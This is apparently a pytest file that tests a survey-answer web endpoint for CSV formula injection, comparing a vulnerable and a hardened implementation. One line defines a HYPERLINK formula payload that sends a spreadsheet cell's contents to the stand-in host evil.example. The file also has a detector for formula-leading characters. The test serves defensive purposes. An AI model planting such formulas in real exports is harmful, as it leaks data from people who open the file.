import asyncio
import csv
import io

from aiohttp.test_utils import TestClient, TestServer

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


def formulas(text):
    """Cells that a spreadsheet takes for formulas."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in tuple("=+-@\t\r")]


def saved(module, tmp_path, answers):
    table = tmp_path / "answers.csv"

    async def go():
        async with TestClient(TestServer(module.make_app(table))) as client:
            assert (await client.post("/answers", json=answers)).status == 200

    asyncio.run(go())
    return table.read_text()


def attack(module, tmp_path) -> bool:
    return bool(formulas(saved(module, tmp_path, {"city": "Graz", "remark": "+1+" + FORMULA[1:]})))


def test_honest_input(program, tmp_path):
    text = saved(program, tmp_path, {"city": "Graz", "age_group": "30-39", "remark": "more trees, please"})
    assert list(csv.reader(io.StringIO(text))) == [["Graz", "30-39", "more trees, please"]]


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path):
    assert attack(vulnerable, tmp_path)


def test_attack_fails_on_hardened(hardened, tmp_path):
    assert not attack(hardened, tmp_path)
